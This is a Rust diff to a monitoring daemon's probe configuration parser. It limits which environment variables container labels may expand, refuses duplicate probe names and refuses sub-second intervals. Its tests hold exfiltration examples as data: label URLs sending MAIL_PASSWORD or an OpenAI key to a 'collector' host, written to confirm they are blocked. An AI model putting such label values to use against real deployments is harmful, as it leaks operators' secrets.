@@ -9,6 +9,10 @@
 //!
 //! Every error is a [`ProbeConfigError`] that names where the value came from: `file:line:column`
 //! for YAML, the container and the full label for labels, and always the probe and the key.
+//!
+//! The two sources are not trusted alike: the file expands any `${VAR}` of medic's environment,
+//! labels only those the operator allowed ([`LabelVariables`], `MEDIC_LABEL_VARIABLES`), since
+//! whoever can deploy a labelled service must not be able to read medic's secrets.
 
 use std::collections::{BTreeMap, HashMap};
 use std::fmt;
@@ -19,7 +23,7 @@ use std::time::Duration;
 use serde::Deserialize;
 
 use super::secret::{Secret, SecretUri};
-use super::vars::{self, Substituted};
+use super::vars::{self, LabelVariables, Substituted};
 
 /// How often a probe runs when neither `interval` nor `cron` is set.
 pub const DEFAULT_INTERVAL: Duration = Duration::from_secs(300);
@@ -27,6 +31,9 @@ pub const DEFAULT_INTERVAL: Duration = Duration::from_secs(300);
 pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(30);
 /// Label prefix of probe labels: `medic.probe.<name>.<key>`.
 pub const LABEL_PREFIX: &str = "medic.probe.";
+/// The shortest probe `interval` and `timeout`: shorter ones spin a core and the engine (`1ns`
+/// was accepted once) without telling anything a one-second probe would not.
+pub const MIN_PROBE_INTERVAL: Duration = Duration::from_secs(1);
 
 /// One configured probe, validated.
 #[derive(Debug, Clone, PartialEq)]
@@ -48,6 +55,10 @@ pub struct ProbeSpec {
     pub component: String,
     /// Where it was declared, for messages: the file path, or `container <name>`.
     pub declared_in: String,
+    /// The compose project its services (`restart`, an `exec` probe's `service`) belong to:
+    /// the labelled container's project for label probes; `None` for the file, whose services
+    /// are those of the watched project.
+    pub project: Option<String>,
 }
 
 impl ProbeSpec {
@@ -811,7 +822,41 @@ fn unknown_key_message(key: &str, valid: &[&str]) -> String {
 struct RawFile {
     /// name → settings.
     #[serde(default)]
-    probes: Option<BTreeMap<String, RawProbe>>,
+    probes: Option<ProbeMap>,
+}
+
+/// The probes of the file by name, refusing a name written twice: a YAML map would silently
+/// keep the last one, and the first probe would never run.
+#[derive(Debug, Default)]
+struct ProbeMap(BTreeMap<String, RawProbe>);
+
+impl<'de> Deserialize<'de> for ProbeMap {
+    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
+        struct V;
+        impl<'de> serde::de::Visitor<'de> for V {
+            type Value = ProbeMap;
+            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
+                f.write_str("a map of probe names to their settings")
+            }
+            fn visit_map<A: serde::de::MapAccess<'de>>(
+                self,
+                mut map: A,
+            ) -> Result<ProbeMap, A::Error> {
+                let mut out = BTreeMap::new();
+                while let Some(name) = map.next_key::<String>()? {
+                    if out.contains_key(&name) {
+                        return Err(serde::de::Error::custom(format!(
+                            "probe `{name}` is declared twice in this file; rename one"
+                        )));
+                    }
+                    let probe: RawProbe = map.next_value()?;
+                    out.insert(name, probe);
+                }
+                Ok(ProbeMap(out))
+            }
+        }
+        d.deserialize_map(V)
+    }
 }
 
 /// Parses the `probes:` section of the YAML configuration file. `source` is the file's path,
@@ -837,17 +882,44 @@ pub fn parse_yaml(
     let raw: RawFile = yaml_serde::from_str(text).map_err(|e| {
         let location = e.location();
         let (probe, key, message) = explain_yaml_error(&e.to_string());
-        file_error(
+        let (mut line, mut column) = (
             location.as_ref().map(|l| l.line() as u32),
             location.as_ref().map(|l| l.column() as u32),
-            probe,
-            key,
-            message,
-        )
+        );
+        let mut message = message;
+        // The parser points at the `probes:` map; name the lines of both declarations.
+        if let Some(name) = message
+            .strip_prefix("probe `")
+            .filter(|_| message.contains("is declared twice"))
+            .and_then(|rest| rest.split('`').next())
+        {
+            let mut lines: Vec<(u32, u32)> = text
+                .lines()
+                .enumerate()
+                .filter_map(|(i, l)| {
+                    let trimmed = l.trim_start();
+                    let indent = l.len() - trimmed.len();
+                    (indent > 0 && trimmed.strip_prefix(name)?.trim_start().starts_with(':'))
+                        .then_some(((i + 1) as u32, (indent + 1) as u32))
+                })
+                .collect();
+            // Probe names sit at one indent; a key of the same name inside a probe does not.
+            if let Some(&(_, probe_column)) = lines.first() {
+                lines.retain(|(_, c)| *c == probe_column);
+            }
+            if let [first, second, ..] = lines[..] {
+                (line, column) = (Some(second.0), Some(second.1));
+                message = format!(
+                    "probe `{name}` is declared twice in this file, on lines {} and {}; rename one",
+                    first.0, second.0
+                );
+            }
+        }
+        file_error(line, column, probe, key, message)
     })?;
     let origin = Origin::File { path: source, text };
     let mut specs = Vec::new();
-    for (name, probe) in raw.probes.unwrap_or_default() {
+    for (name, probe) in raw.probes.unwrap_or_default().0 {
         if !valid_probe_name(&name) {
             let (line, column) = locate(text, &name, None).unzip();
             return Err(file_error(
@@ -862,6 +934,7 @@ pub fn parse_yaml(
             origin: &origin,
             probe: &name,
             env,
+            allowed: None,
         };
         specs.push(resolver.resolve(probe)?);
     }
@@ -900,13 +973,32 @@ fn explain_yaml_error(text: &str) -> (Option<String>, Option<String>, String) {
 
 /// Parses the `medic.probe.<name>.<key>` labels of one container. `container` is its name (for
 /// messages), `service` its compose service: the default component, restart target, `tcp` host
-/// and `exec` target (`container` then).
+/// and `exec` target (`container` then). `${VAR}` in a value reads `env` only for the variables
+/// in `allowed` (the trust boundary, see the module docs); any other is an error on the label.
+/// The first error fails the whole container; [`parse_labels_each`] keeps the good probes.
 pub fn parse_labels(
     container: &str,
     service: &str,
     labels: &HashMap<String, String>,
     env: &dyn Fn(&str) -> Option<String>,
+    allowed: &LabelVariables,
 ) -> Result<Vec<ProbeSpec>, ProbeConfigError> {
+    let (specs, mut errors) = parse_labels_each(container, service, labels, env, allowed);
+    match errors.is_empty() {
+        true => Ok(specs),
+        false => Err(errors.remove(0)),
+    }
+}
+
+/// Like [`parse_labels`], but one probe's error does not cost the container's other probes:
+/// the daemon runs every probe that parses and reports each one that does not.
+pub fn parse_labels_each(
+    container: &str,
+    service: &str,
+    labels: &HashMap<String, String>,
+    env: &dyn Fn(&str) -> Option<String>,
+    allowed: &LabelVariables,
+) -> (Vec<ProbeSpec>, Vec<ProbeConfigError>) {
     let label_error =
         |label: &str, probe: Option<&str>, key: Option<&str>, message: String| ProbeConfigError {
             origin: ConfigOrigin::Label {
@@ -917,6 +1009,9 @@ pub fn parse_labels(
             key: key.map(str::to_string),
             message,
         };
+    let mut errors = Vec::new();
+    // Probes with a malformed label: reported once, not resolved from their other labels.
+    let mut broken: std::collections::BTreeSet<&str> = std::collections::BTreeSet::new();
     // name → key → value, in label order.
     let mut probes: BTreeMap<&str, BTreeMap<&str, &str>> = BTreeMap::new();
     let mut sorted: Vec<_> = labels.iter().collect();
@@ -929,55 +1024,56 @@ pub fn parse_labels(
             .split_once('.')
             .filter(|(n, k)| !n.is_empty() && !k.is_empty())
         else {
-            return Err(label_error(
+            errors.push(label_error(
                 label,
                 None,
                 None,
                 "a probe label is medic.probe.<name>.<key>=<value>, e.g. medic.probe.db.type=mongodb"
                     .into(),
             ));
+            continue;
         };
-        if !valid_probe_name(name) {
-            return Err(label_error(
-                label,
-                Some(name),
+        if broken.contains(name) {
+            continue;
+        }
+        let problem = if !valid_probe_name(name) {
+            Some((
                 None,
-                "a probe name has only letters, digits, '-' and '_'".into(),
-            ));
-        }
-        let top = key.split('.').next().unwrap_or(key);
-        if !RawProbe::KEYS.contains(&top) {
-            return Err(label_error(
-                label,
-                Some(name),
-                Some(key),
-                unknown_key_message(top, RawProbe::KEYS),
-            ));
-        }
-        match (top, key.contains('.')) {
-            ("headers", false) => {
-                return Err(label_error(
-                    label,
-                    Some(name),
-                    Some(key),
-                    "write one label per header: medic.probe.<name>.headers.<Header-Name>=<value>"
-                        .into(),
-                ))
+                "a probe name has only letters, digits, '-' and '_'".to_string(),
+            ))
+        } else {
+            let top = key.split('.').next().unwrap_or(key);
+            if !RawProbe::KEYS.contains(&top) {
+                Some((Some(key), unknown_key_message(top, RawProbe::KEYS)))
+            } else {
+                match (top, key.contains('.')) {
+                    ("headers", false) => Some((
+                        Some(key),
+                        "write one label per header: medic.probe.<name>.headers.<Header-Name>=<value>"
+                            .to_string(),
+                    )),
+                    (other, true) if other != "headers" => Some((
+                        Some(key),
+                        format!("`{other}` takes no sub-key; only headers.<Header-Name> does"),
+                    )),
+                    _ => None,
+                }
             }
-            (other, true) if other != "headers" => {
-                return Err(label_error(
-                    label,
-                    Some(name),
-                    Some(key),
-                    format!("`{other}` takes no sub-key; only headers.<Header-Name> does"),
-                ))
-            }
-            _ => {}
+        };
+        if let Some((key, message)) = problem {
+            errors.push(label_error(label, Some(name), key, message));
+            broken.insert(name);
+            probes.remove(name);
+            continue;
         }
         probes.entry(name).or_default().insert(key, value.as_str());
     }
 
-    let origin = Origin::Labels { container, service };
+    let origin = Origin::Labels {
+        container,
+        service,
+        project: labels.get("com.docker.compose.project").map(String::as_str),
+    };
     let mut specs = Vec::new();
     for (name, keys) in probes {
         let mut object = serde_json::Map::new();
@@ -995,22 +1091,30 @@ pub fn parse_labels(
         if !headers.is_empty() {
             object.insert("headers".into(), headers.into());
         }
-        let raw: RawProbe = serde_json::from_value(object.into()).map_err(|e| {
-            label_error(
-                &format!("{LABEL_PREFIX}{name}"),
-                Some(name),
-                None,
-                e.to_string(),
-            )
-        })?;
+        let raw: RawProbe = match serde_json::from_value(object.into()) {
+            Ok(raw) => raw,
+            Err(e) => {
+                errors.push(label_error(
+                    &format!("{LABEL_PREFIX}{name}"),
+                    Some(name),
+                    None,
+                    e.to_string(),
+                ));
+                continue;
+            }
+        };
         let resolver = Resolver {
             origin: &origin,
             probe: name,
             env,
+            allowed: Some(allowed),
         };
-        specs.push(resolver.resolve(raw)?);
+        match resolver.resolve(raw) {
+            Ok(spec) => specs.push(spec),
+            Err(e) => errors.push(e),
+        }
     }
-    Ok(specs)
+    (specs, errors)
 }
 
 fn valid_probe_name(name: &str) -> bool {
@@ -1080,6 +1184,8 @@ enum Origin<'a> {
         container: &'a str,
         /// Its compose service.
         service: &'a str,
+        /// Its compose project, if it belongs to one.
+        project: Option<&'a str>,
     },
 }
 
@@ -1091,6 +1197,9 @@ struct Resolver<'a> {
     probe: &'a str,
     /// Variable lookup for `${VAR}`.
     env: &'a dyn Fn(&str) -> Option<String>,
+    /// The variables `${VAR}` may read: all for the file (`None`), the operator's allow-list
+    /// for labels.
+    allowed: Option<&'a LabelVariables>,
 }
 
 type Res<T> = Result<T, ProbeConfigError>;
@@ -1124,13 +1233,16 @@ impl Resolver<'_> {
 
     fn labels(&self) -> Option<(&str, &str)> {
         match self.origin {
-            Origin::Labels { container, service } => Some((container, service)),
+            Origin::Labels {
+                container, service, ..
+            } => Some((container, service)),
             Origin::File { .. } => None,
         }
     }
 
     fn subst(&self, key: &str, value: Scalar) -> Res<Substituted> {
-        vars::substitute(&value.0, self.env).map_err(|e| self.err(Some(key), e.to_string()))
+        vars::substitute_within(&value.0, self.env, self.allowed)
+            .map_err(|e| self.err(Some(key), e.to_string()))
     }
 
     fn text(&self, key: &str, value: Option<Scalar>) -> Res<Option<String>> {
@@ -1165,6 +1277,31 @@ impl Resolver<'_> {
             ));
         }
         Ok(Some(d))
+    }
+
+    /// A duration of at least [`MIN_PROBE_INTERVAL`], for `interval` and `timeout`.
+    fn at_least_a_second(&self, key: &str, value: Option<Scalar>) -> Res<Option<Duration>> {
+        let d = self.duration(key, value)?;
+        match d {
+            Some(d) if d < MIN_PROBE_INTERVAL => Err(self.err(
+                Some(key),
+                format!(
+                    "{key} {} is too short: the shortest is {}, since shorter ones keep a core \
+                     and the engine busy",
+                    humantime::format_duration(d),
+                    humantime::format_duration(MIN_PROBE_INTERVAL)
+                ),
+            )),
+            d => Ok(d),
+        }
+    }
+
+    /// The labelled container's compose project, for label probes.
+    fn label_project(&self) -> Option<&str> {
+        match self.origin {
+            Origin::Labels { project, .. } => *project,
+            Origin::File { .. } => None,
+        }
     }
 
     fn number<T: FromStr>(
@@ -1305,7 +1442,7 @@ impl Resolver<'_> {
         }
 
         let informational = matches!(*type_name, "git" | "disk" | "memory");
-        let interval = self.duration("interval", raw.interval.take())?;
+        let interval = self.at_least_a_second("interval", raw.interval.take())?;
         let cron = self.text("cron", raw.cron.take())?;
         let schedule = match (interval, cron) {
             (Some(_), Some(_)) => {
@@ -1319,7 +1456,7 @@ impl Resolver<'_> {
             (interval, None) => Schedule::Interval(interval.unwrap_or(DEFAULT_INTERVAL)),
         };
         let timeout = self
-            .duration("timeout", raw.timeout.take())?
+            .at_least_a_second("timeout", raw.timeout.take())?
             .unwrap_or(DEFAULT_TIMEOUT);
         let failure_threshold: Option<u32> = self.number(
             "failure_threshold",
@@ -1394,6 +1531,7 @@ impl Resolver<'_> {
                 Origin::File { path, .. } => path.to_string(),
                 Origin::Labels { container, .. } => format!("container {container}"),
             },
+            project: self.label_project().map(str::to_string),
         })
     }
 
@@ -1570,6 +1708,16 @@ impl Resolver<'_> {
         };
         let api_key = match (self.text("api_key", raw.api_key.take())?, key_var) {
             (Some(k), _) if !k.is_empty() => Some(Secret::new(k)),
+            (_, Some(var)) if self.allowed.is_some_and(|a| !a.allows(var)) => {
+                return Err(self.err(
+                    Some("api_key"),
+                    format!(
+                        "a probe declared by labels does not read {var} from medic's \
+                         environment; {}",
+                        vars::VarError::NotAllowed(var.to_string())
+                    ),
+                ))
+            }
             (_, Some(var)) => match vars::lookup(var, self.env) {
                 Ok(Some(k)) if !k.is_empty() => Some(Secret::new(k)),
                 Ok(_) => {
@@ -1654,7 +1802,7 @@ impl Resolver<'_> {
             (Some(c), None, _) => ExecTarget::Container(c),
             (None, Some(s), _) => ExecTarget::Service {
                 service: s,
-                project,
+                project: project.or_else(|| self.label_project().map(str::to_string)),
             },
             (None, None, Some((container, _))) => ExecTarget::Container(container.to_string()),
             (None, None, None) => {
@@ -1791,9 +1939,15 @@ mod tests {
                     format!("mongodb://medic:{password}@db:27017/shop"),
                 ),
             ]);
-            parse_labels("shop-db-1", "db", &labels, &no_env)
-                .unwrap()
-                .remove(0)
+            parse_labels(
+                "shop-db-1",
+                "db",
+                &labels,
+                &no_env,
+                &LabelVariables::default(),
+            )
+            .unwrap()
+            .remove(0)
         };
         let (old, new) = (spec("first-secret"), spec("second-secret"));
         assert_eq!(format!("{old:?}"), format!("{new:?}"));
@@ -1894,5 +2048,129 @@ mod tests {
             "{e}"
         );
         assert!(e.to_string().contains("100 years"), "{e}");
+    }
+
+    fn label_map(pairs: &[(&str, &str)]) -> HashMap<String, String> {
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn labels_read_only_the_allowed_variables_and_the_file_reads_all() {
+        let env = |name: &str| match name {
+            "MAIL_PASSWORD" => Some("hunter2".to_string()),
+            "API_HOST" => Some("api.internal".to_string()),
+            "OPENAI_API_KEY" => Some("sk-live".to_string()),
+            _ => None,
+        };
+        let leak = label_map(&[
+            ("medic.probe.leak.type", "http"),
+            (
+                "medic.probe.leak.url",
+                "http://collector:9000/?p=${MAIL_PASSWORD}",
+            ),
+        ]);
+        let allowed = LabelVariables::of(["API_HOST"]);
+        let e = parse_labels("shop-web-1", "web", &leak, &env, &allowed).unwrap_err();
+        let text = e.to_string();
+        assert!(
+            text.starts_with(
+                "container \"shop-web-1\", label \"medic.probe.leak.url\": probe `leak`, key `url`"
+            ),
+            "{text}"
+        );
+        assert!(text.contains("${MAIL_PASSWORD}"), "{text}");
+        assert!(text.contains("MEDIC_LABEL_VARIABLES"), "{text}");
+        assert!(!text.contains("hunter2"), "{text}");
+
+        let fine = label_map(&[
+            ("medic.probe.api.type", "http"),
+            ("medic.probe.api.url", "http://${API_HOST}/health"),
+        ]);
+        let specs = parse_labels("shop-web-1", "web", &fine, &env, &allowed).unwrap();
+        let ProbeKind::Http(h) = &specs[0].kind else {
+            panic!()
+        };
+        assert_eq!(h.url.as_str(), "http://api.internal/health");
+
+        // An ai probe without api_key would read the provider's variable: not from labels.
+        let ai = label_map(&[
+            ("medic.probe.model.type", "ai"),
+            ("medic.probe.model.provider", "openai"),
+            ("medic.probe.model.base_url", "http://collector:9000"),
+        ]);
+        let e = parse_labels("shop-web-1", "web", &ai, &env, &allowed).unwrap_err();
+        assert_eq!(e.key.as_deref(), Some("api_key"));
+        assert!(e.to_string().contains("OPENAI_API_KEY"), "{e}");
+        assert!(!e.to_string().contains("sk-live"), "{e}");
+        let specs = parse_labels(
+            "shop-web-1",
+            "web",
+            &ai,
+            &env,
+            &LabelVariables::of(["OPENAI_API_KEY"]),
+        )
+        .unwrap();
+        assert_eq!(specs.len(), 1);
+
+        // The file is the operator's: it reads any variable.
+        let text = "probes:\n  leak:\n    type: http\n    url: http://collector:9000/?p=${MAIL_PASSWORD}\n";
+        assert!(parse_yaml(text, "m.yaml", &env).is_ok());
+    }
+
+    #[test]
+    fn label_probes_belong_to_their_containers_project() {
+        let l = label_map(&[
+            ("com.docker.compose.project", "shop"),
+            ("medic.probe.ping.type", "exec"),
+            ("medic.probe.ping.service", "db"),
+            ("medic.probe.ping.command", "true"),
+        ]);
+        let spec = parse_labels("shop-web-1", "web", &l, &no_env, &LabelVariables::default())
+            .unwrap()
+            .remove(0);
+        assert_eq!(spec.project.as_deref(), Some("shop"));
+        let ProbeKind::Exec(e) = &spec.kind else {
+            panic!()
+        };
+        assert_eq!(
+            e.target,
+            ExecTarget::Service {
+                service: "db".into(),
+                project: Some("shop".into())
+            }
+        );
+        let text = "probes:\n  ping:\n    type: exec\n    service: db\n    command: \"true\"\n";
+        assert_eq!(
+            parse_yaml(text, "m.yaml", &no_env).unwrap()[0].project,
+            None
+        );
+    }
+
+    #[test]
+    fn intervals_and_timeouts_below_a_second_are_refused() {
+        for (key, value) in [
+            ("interval", "1ns"),
+            ("interval", "999ms"),
+            ("timeout", "1ns"),
+            ("timeout", "500ms"),
+        ] {
+            let text = format!(
+                "probes:\n  web:\n    type: tcp\n    host: db\n    port: 1\n    {key}: {value}\n"
+            );
+            let e = parse_yaml(&text, "m.yaml", &no_env).unwrap_err();
+            let message = e.to_string();
+            assert!(
+                message.starts_with(&format!("m.yaml:6:5: probe `web`, key `{key}`")),
+                "{message}"
+            );
+            assert!(message.contains("the shortest is 1s"), "{message}");
+        }
+        let text = "probes:\n  web:\n    type: tcp\n    host: db\n    port: 1\n    interval: 1s\n    timeout: 1s\n";
+        let spec = parse_yaml(text, "m.yaml", &no_env).unwrap().remove(0);
+        assert_eq!(spec.schedule, Schedule::Interval(MIN_PROBE_INTERVAL));
+        assert_eq!(spec.timeout, MIN_PROBE_INTERVAL);
     }
 }
